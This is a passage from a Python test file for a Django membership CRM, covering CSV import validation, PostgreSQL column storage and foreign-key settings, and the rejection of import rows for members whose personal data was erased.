            "Una,Known,una@example.org,Oak Primary,Nowhere,teacher",
        ]
    )
    job = run(organiser, check(organiser, text + "\n"))
    assert (job.created_count, job.rejected_count) == (2, 3)
    assert Member.objects.get(email="yan@example.org").workplace == york_oak
    assert Member.objects.get(email="lee@example.org").workplace == union.workplaces.oak
    # A row's problems in any order (the mapping's order is the database's JSON order).
    problems = [{reason for _column, reason in row.problems} for row in rows(job, "rejected")]
    assert any(reason.startswith("Several workplaces are called 'Oak Primary'") for reason in problems[0])
    assert "There is no workplace called 'Oak Primary'." in problems[1] & problems[2]


@pytest.mark.django_db
def test_uploaded_files_and_kept_rows_are_stored_without_postgresql_compressing_them_again():
    """crm/0015: pglz took twice as long to store a 14 MB file, and the kept rows are zlib-compressed already."""
    from django.db import connection

    from tests.conftest import skip_or_fail

    if connection.vendor != "postgresql":
        skip_or_fail("PostgreSQL's storage settings: run `make test-services`")
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT attname, attstorage FROM pg_attribute WHERE attrelid = 'crm_importjob'::regclass "
            "AND attname IN ('content', 'checked_rows', 'checked_mobiles', 'filename') ORDER BY attname"
        )
        stored = cursor.fetchall()
    assert stored == [("checked_mobiles", "e"), ("checked_rows", "e"), ("content", "e"), ("filename", "x")]


def test_the_transaction_around_a_dry_run_checks_foreign_keys_at_its_commit_again(union, organiser):
    """On PostgreSQL the dry run checks its report rows' foreign keys as each batch is written; whatever the
    surrounding transaction (here the test's) writes afterwards is checked at commit, as Django expects."""
    from django.db import connection, transaction

    from tests.conftest import skip_or_fail

    if connection.vendor != "postgresql":
        skip_or_fail("PostgreSQL's deferred foreign-key checks: run `make test-services`")
    job = check(organiser, csv_of(NEW_ROW))
    assert job.status == ImportJob.Status.CHECKED
    with transaction.atomic():
        # Names a member that does not exist: refused here only if the checks were left immediate.
        AuditEntry.objects.create(
            actor_name="test", action=AuditEntry.Action.UPDATE, target_type="crm.member", member_id=10**12, summary="-"
        )
        transaction.set_rollback(True)


def test_a_row_for_an_erased_member_is_rejected_and_writes_nothing_back(union, organiser, run):
    from crm.services.privacy import erase_member

    oak = union.members.oak_lapsed
    oak.status = Member.Status.RESIGNED
    oak.save(update_fields=["status"])
    erase_member(actor=union.users.national, member=oak, reason="Asked to be forgotten")
    oak.refresh_from_db()
    before = snapshot()
    text = f"Membership number,First name,Town\n{oak.membership_number},Owen,Leeds\n"
    job = run(organiser, check(organiser, text))
    [row] = rows(job)
    assert row.outcome == "rejected"
    assert row.problems == [["Membership number", "This member's personal data was erased: not changed."]]
    assert snapshot()["members"] == before["members"]
